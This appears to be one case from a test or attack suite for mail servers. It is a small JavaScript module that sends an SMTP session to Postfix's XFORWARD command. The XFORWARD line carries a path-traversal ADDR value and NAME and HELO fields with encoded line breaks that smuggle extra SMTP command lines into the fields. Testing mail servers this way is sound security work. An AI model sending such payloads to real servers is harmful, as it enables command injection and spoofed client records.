import { talk } from '../attack.mjs';

/** Names a client of the next mail that is no address, with a line of its own in the name. Source: Postfix XFORWARD. */
export default talk({
  sent: 0,
  steps: () => ['EHLO a\r\n', 'XFORWARD ADDR=../../etc NAME=+0d+0aMAIL HELO=+0d+0aRCPT\r\n', 'QUIT\r\n'],
});
